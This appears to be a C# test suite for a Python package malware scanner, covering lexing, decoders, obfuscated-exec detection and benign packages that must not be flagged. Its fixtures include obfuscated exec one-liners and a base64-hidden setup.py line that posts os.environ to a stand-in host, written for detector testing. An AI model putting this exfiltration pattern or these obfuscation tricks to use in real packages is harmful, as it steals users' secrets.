using System.Security.Cryptography;
using System.Text;
using Moat.Analysis.Code;

namespace Moat.Analysis.Tests.Code;

public class LexerParserTests
{
    [Fact]
    public void Lexer_decodes_prefixes_escapes_and_triple_quotes()
    {
        var tokens = PyLexer.Lex("a = rb'\\x41' + b'\\x41' + u'\\u00e9' + '''x\ny''' + f\"{d['k']!r:>{w}}\"\n");
        var literals = tokens.Literals.Select(l => l.Value).ToList();
        Assert.Equal(["\\x41", "A", "é", "x\ny", "{}"], literals);
        Assert.True(tokens.Literals[0].IsBytes);
        Assert.True(tokens.Literals[4].IsFormatted);
        Assert.Equal("d['k']!r:>{w}", tokens.Literals[4].FormatExpressions[0]);
    }

    [Fact]
    public void Lexer_reads_plain_unterminated_and_odd_strings_with_the_right_values_and_lines()
    {
        var tokens = PyLexer.Lex("a = '''x\"y''z'''\nb = 'open\nc = b'\u20ac' + \"\"\"l1\r\nl2\"\"\"\nd = r'\\'' + '\\n'\ne = 1");
        Assert.Equal(["x\"y''z", "open", "?", "l1\r\nl2", "\\'", "\n"], tokens.Literals.Select(l => l.Value));
        var names = tokens.Tokens.Where(t => t.Kind == TokenKind.Name).Select(t => (tokens.Text(t).ToString(), t.Line)).ToList();
        Assert.Equal([("a", 1), ("b", 2), ("c", 3), ("d", 5), ("e", 6)], names);
    }

    [Fact]
    public void Lexer_takes_the_longest_operator()
    {
        var tokens = PyLexer.Lex("a **= b //= c >>= d <<= e ... f <> g != h -> i := j ** k // l >= m <= n == o -= p @= q ~ r !== s\n");
        var ops = tokens.Tokens.Where(t => t.Kind == TokenKind.Op).Select(t => tokens.Text(t).ToString());
        Assert.Equal(["**=", "//=", ">>=", "<<=", "...", "<>", "!=", "->", ":=", "**", "//", ">=", "<=", "==", "-=", "@=", "~", "!=", "="], ops);
    }

    [Fact]
    public void Pep701_fstrings_may_reuse_their_quote_inside_fields()
    {
        var module = PyParser.Parse("x = f\"{\", \".join(f\"{a}\" for a in items)}\"\ny = 1\n");
        Assert.Equal(2, module.Body.Count);
        var fstring = Assert.IsType<FStrExpr>(Assert.IsType<AssignStmt>(module.Body[0]).Value);
        Assert.IsType<CallExpr>(Assert.Single(fstring.Fields));
    }

    [Fact]
    public void Parser_understands_imports_aliases_classes_and_python2()
    {
        const string source = "import base64 as b, os\nfrom x.y import (a as c,\n  d)\nclass K(install):\n\tdef run(self):\n\t\tprint 'hi'\n\t\texec code in ns\n";
        var module = PyParser.Parse(source.Replace("\n", "\r\n", StringComparison.Ordinal));
        var import = Assert.IsType<ImportStmt>(module.Body[0]);
        Assert.Equal(("base64", "b"), import.Names[0]);
        var from = Assert.IsType<FromImportStmt>(module.Body[1]);
        Assert.Equal([("a", "c"), ("d", (string?)null)], from.Names);
        var cls = Assert.IsType<ClassDef>(module.Body[2]);
        var run = Assert.IsType<FuncDef>(Assert.Single(cls.Body));
        var exec = Assert.IsType<ExprStmt>(run.Body[1]);
        Assert.Equal("exec", Assert.IsType<NameExpr>(Assert.IsType<CallExpr>(exec.Value).Func).Id);
    }

    [Fact]
    public void Minified_one_liners_are_split_into_statements()
    {
        var module = PyParser.Parse("import os;x=1;exec(x) if x else None;y=lambda a:a[::-1]");
        Assert.Equal(4, module.Body.Count);
        Assert.IsType<LambdaExpr>(Assert.IsType<AssignStmt>(module.Body[3]).Value);
    }

    [Theory]
    [InlineData("def f(:\n  x = (1, [2, {3\nclass\n")]
    [InlineData("'unterminated\n\"\"\"never closed")]
    [InlineData("))))]]]}}}:::@@@")]
    [InlineData("\tif x:\n  y\n\t\tz\n w\n")]
    public void Broken_code_never_throws(string source)
    {
        var module = PyParser.Parse(source);
        Assert.NotNull(module.Body);
    }

    [Fact]
    public void Random_bytes_and_deep_nesting_are_bounded()
    {
        var random = new Random(7);
        for (var i = 0; i < 200; i++)
        {
            var chars = new char[random.Next(1, 400)];
            const string alphabet = "()[]{}'\"\\:=.,ab1 \n\tfrif#";
            for (var k = 0; k < chars.Length; k++) chars[k] = alphabet[random.Next(alphabet.Length)];
            PyParser.Parse(new string(chars));
        }
        var deep = PyParser.Parse(new string('(', 50_000) + "x" + new string(')', 50_000));
        Assert.True(deep.Truncated);
    }
}

public class DecoderTests
{
    [Fact]
    public void Fernet_tokens_decrypt_with_their_key_and_fail_with_another()
    {
        // Built the way cryptography.fernet does it: 0x80 ‖ time ‖ IV ‖ AES-CBC(PKCS7) ‖ HMAC-SHA256.
        var key = RandomNumberGenerator.GetBytes(32);
        var iv = RandomNumberGenerator.GetBytes(16);
        using var aes = Aes.Create();
        aes.Key = key[16..];
        var cipher = aes.EncryptCbc(Encoding.ASCII.GetBytes("print('x')"), iv, PaddingMode.PKCS7);
        var body = new byte[] { 0x80, 0, 0, 0, 0, 0x65, 0, 0, 0 }.Concat(iv).Concat(cipher).ToArray();
        var token = body.Concat(HMACSHA256.HashData(key[..16], body)).ToArray();
        string Url(byte[] b) => Convert.ToBase64String(b).Replace('+', '-').Replace('/', '_');
        Assert.Equal("print('x')", Decoders.Fernet(Url(key), Url(token)));
        Assert.Null(Decoders.Fernet(Url(RandomNumberGenerator.GetBytes(32)), Url(token)));
    }

    [Fact]
    public void Base_encodings_and_compression_round_trip()
    {
        Assert.Equal("hello", Decoders.Base64("aGVsbG8")); // missing padding tolerated
        Assert.Equal("hello", Decoders.Base32("NBSWY3DP"));
        Assert.Equal("hello", Decoders.Hex("68656c6c6f"));
        Assert.Equal("hello", Decoders.Rot13("uryyb"));
        Assert.Equal("hello", Decoders.Base85("Xk~0{Zv", ascii85: false));
        using var buffer = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(buffer, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) z.Write("hello"u8);
        Assert.Equal("hello", Decoders.Zlib(Encoding.Latin1.GetString(buffer.ToArray())));
        Assert.Null(Decoders.Zlib("not compressed at all"));
    }
}

public class DeobfuscationTests
{
    private static ScanResult ScanSource(string source, string name = "setup.py")
    {
        var dir = Directory.CreateTempSubdirectory("moat-code-");
        try
        {
            File.WriteAllText(Path.Combine(dir.FullName, name), source);
            return PackageScanner.Scan(Path.Combine(dir.FullName, name));
        }
        finally { dir.Delete(recursive: true); }
    }

    [Theory]
    [InlineData("exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))", "")]
    [InlineData("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "rot13")]
    [InlineData("exec(bytes.fromhex('7072696e74283129').decode())", "hex")]
    [InlineData("from base64 import b64decode as d\nx = 'KTEodG5pcnA='[::-1]\nexec(d(x))", "reverse → base64")]
    [InlineData("k=7\nexec(''.join(chr(ord(c) ^ k) for c in 'wunis/6.'))", "")]
    [InlineData("g = getattr(__builtins__, 'ex' + 'ec')\ng(__import__('base64').b64decode('cHJpbnQoMSk='))", "base64")]
    [InlineData("def dec(s):\n    out = ''\n    for ch in s:\n        out += chr(ord(ch) - 1)\n    return out\nexec(dec('qsjou)2*'))", "")]
    public void Obfuscated_exec_is_seen_through(string source, string chain)
    {
        var result = ScanSource(source);
        var finding = result.Findings.FirstOrDefault(f => f.RuleId == ThreatRules.DecodeExec.Id);
        Assert.True(finding is not null || result.Findings.Any(f => f.RuleId == ThreatRules.ObfuscatedCall.Id), string.Join(" | ", result.Findings.Select(f => f.RuleId + " " + f.Message)));
        if (chain.Length > 0) Assert.Contains(chain, finding!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_decoded_layer_is_scanned_with_its_chain_in_the_evidence()
    {
        var payload = Convert.ToBase64String(Encoding.ASCII.GetBytes("import requests, os\nrequests.post('https://x.example.invalid', data=dict(os.environ))\n"));
        var result = ScanSource($"import base64\nexec(base64.b64decode('{payload}'))\n");
        var exfil = Assert.Single(result.Findings, f => f.RuleId == ThreatRules.HarvestExfil.Id);
        Assert.Equal(2, exfil.Location.Line);
        Assert.StartsWith("base64 → exec: requests.post(", exfil.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Webhook_tokens_are_redacted_in_evidence()
    {
        var result = ScanSource("import requests\nrequests.post('https://discord.com/api/webhooks/1234567890/SECRETSECRETSECRETSECRETSECRET1234', json={})\n", "mod.py");
        Assert.All(result.Findings, f => Assert.DoesNotContain("SECRETSECRETSECRETSECRETSECRET1234", f.Evidence ?? f.Message, StringComparison.Ordinal));
        Assert.Contains(result.Findings, f => f.RuleId == ThreatRules.Webhook.Id);
    }
}

/// <summary>Hard benign cases: they must stay clean (false positives matter as much as recall).</summary>
public class BenignPackageTests
{
    private static Verdict Judge(params (string Path, string Text)[] files)
    {
        var dir = Directory.CreateTempSubdirectory("moat-benign-");
        try
        {
            foreach (var (path, text) in files)
            {
                var full = Path.Combine(dir.FullName, path);
                Directory.CreateDirectory(Path.GetDirectoryName(full)!);
                File.WriteAllText(full, text);
            }
            var result = PackageScanner.Scan(dir.FullName);
            Assert.True(result.Verdict == Verdict.Clean, string.Join(" | ", result.Findings.Where(f => f.Severity >= Severity.Medium).Select(f => f.RuleId + " " + f.Message)));
            return result.Verdict;
        }
        finally { dir.Delete(recursive: true); }
    }

    private const string Module = "def answer():\n    return 42  # the package has a real module\n";

    [Fact]
    public void C_extension_setup_with_build_ext_and_compiler_probe() => Judge(
        ("setup.py", "import os, subprocess, sys\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\n\nclass BuildExt(build_ext):\n    def build_extensions(self):\n        if subprocess.call(['pkg-config', '--exists', 'libffi']) == 0:\n            self.compiler.define_macro('HAVE_FFI')\n        build_ext.build_extensions(self)\n\nsetup(name='fast', ext_modules=[Extension('fast._c', ['src/c.c'], include_dirs=[os.environ.get('FFI_INCLUDE', '/usr/include')])], cmdclass={'build_ext': BuildExt})\n"),
        ("fast/__init__.py", Module));

    [Fact]
    public void Version_from_git_and_exec_of_version_file() => Judge(
        ("setup.py", "import subprocess\nfrom setuptools import setup\nns = {}\nexec(open('pkg/_version.py').read(), ns)\ntry:\n    rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\nexcept Exception:\n    rev = ''\nsetup(name='pkg', version=ns['__version__'])\n"),
        ("pkg/__init__.py", Module), ("pkg/_version.py", "__version__ = '1.2.3'\n"));

    [Fact]
    public void Http_client_library_with_auth_tokens() => Judge(
        ("client/__init__.py", "import os, requests, base64, platform\n\nclass Client:\n    def __init__(self, token=None):\n        self.token = token or os.environ.get('EXAMPLE_API_TOKEN')\n        self.session = requests.Session()\n        self.session.headers['User-Agent'] = 'client/1.0 ' + platform.system()\n\n    def get(self, path):\n        auth = base64.b64encode(self.token.encode()).decode()\n        return self.session.get('https://api.example.com' + path, headers={'Authorization': 'Basic ' + auth}).json()\n"));

    [Fact]
    public void Cryptography_library_using_fernet_with_user_keys() => Judge(
        ("vault/__init__.py", "from cryptography.fernet import Fernet\nimport base64, hashlib\n\ndef key_from(password):\n    return base64.urlsafe_b64encode(hashlib.sha256(password.encode()).digest())\n\ndef decrypt(token, password):\n    return Fernet(key_from(password)).decrypt(token)\n"));

    [Fact]
    public void Cli_that_spawns_processes_hidden_on_windows() => Judge(
        ("tool/__init__.py", Module),
        ("tool/cli.py", "import subprocess, sys, shutil\n\ndef main():\n    flags = subprocess.CREATE_NO_WINDOW if sys.platform == 'win32' else 0\n    git = shutil.which('git')\n    subprocess.run([git, 'status'], creationflags=flags, check=True)\n\nif __name__ == '__main__':\n    main()\n"));

    [Fact]
    public void Test_suite_with_mocked_webhooks_and_network() => Judge(
        ("notify/__init__.py", "import requests\n\ndef send(url, text):\n    return requests.post(url, json={'content': text})\n"),
        ("tests/test_notify.py", "import responses, os\nfrom notify import send\nHOOK = 'https://discord.com/api/webhooks/1/abcdefghijklmnopqrstuvwxyz'\n\n@responses.activate\ndef test_send():\n    responses.add(responses.POST, HOOK)\n    send(HOOK, str(dict(os.environ)))\n"));

    [Fact]
    public void Namespace_package_pth_and_standard_build_backend() => Judge(
        ("example-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('example',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and not has_mfs and sys.modules.setdefault('example', types.ModuleType('example'))\n"),
        ("pyproject.toml", "[build-system]\nrequires = ['setuptools>=61']\nbuild-backend = 'setuptools.build_meta'\n"),
        ("example/core/__init__.py", Module));

    [Fact]
    public void Api_client_sending_its_token_from_the_environment() => Judge(
        ("gh/__init__.py", "import os, requests\n\ndef repos():\n    token = os.environ['GITHUB_TOKEN']\n    return requests.get('https://api.github.com/user/repos', headers={'Authorization': 'token ' + token}).json()\n"));

    [Fact]
    public void Plugin_loader_compiling_a_config_file() => Judge(
        ("plug/__init__.py", "def load(path):\n    ns = {}\n    with open(path) as f:\n        exec(compile(f.read(), path, 'exec'), ns)\n    return ns\n\nload('plugins.py')\n"));

    [Fact]
    public void Package_embedding_base64_data_and_ssh_config_reader() => Judge(
        ("assets/__init__.py", "import base64, os\nLOGO = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\nKNOWN_HOSTS = os.path.expanduser('~/.ssh/known_hosts')\nCONFIG = os.path.expanduser('~/.ssh/config')\n"));
}
